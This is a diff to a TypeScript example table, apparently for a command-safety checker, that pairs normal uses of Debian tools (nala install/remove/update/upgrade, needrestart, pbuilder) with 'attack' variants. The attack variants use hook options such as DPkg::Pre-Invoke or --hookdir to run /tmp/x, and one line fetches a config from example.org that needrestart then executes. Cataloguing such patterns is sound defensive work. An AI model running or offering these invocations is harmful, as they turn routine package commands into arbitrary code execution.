@@ -256,10 +256,26 @@ export const debianPackages1: ExampleTable = {
     use: 'nala install hello → install nala install',
     attack: 'nala install hello -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install nala install',
   },
+  'nala remove': {
+    use: 'nala remove hello → nothing',
+    attack: 'nala remove hello -o DPkg::Post-Invoke::=/tmp/x → run /tmp/x',
+  },
+  'nala update': {
+    use: 'nala update → nothing',
+    attack: 'nala update -o APT::Update::Pre-Invoke::=/tmp/x → run /tmp/x',
+  },
+  'nala upgrade': {
+    use: 'nala upgrade → install nala upgrade',
+    attack: 'nala upgrade -o DPkg::Pre-Invoke::=/tmp/x → run /tmp/x; install nala upgrade',
+  },
   needrestart: {
     use: 'needrestart -c needrestart.conf → read needrestart.conf',
     attack:
       'curl -so n.conf https://example.org/x && needrestart -c n.conf → execute ‹https://example.org/x›',
+  },
+  'pbuilder create': {
+    use: 'pbuilder create --distribution stable --basetgz base.tgz → use base.tgz; install pbuilder create',
+    attack: 'pbuilder create --hookdir /tmp → load /tmp; install pbuilder create',
   },
   'pbuilder execute': {
     use: 'pbuilder execute -- check.sh → read check.sh',
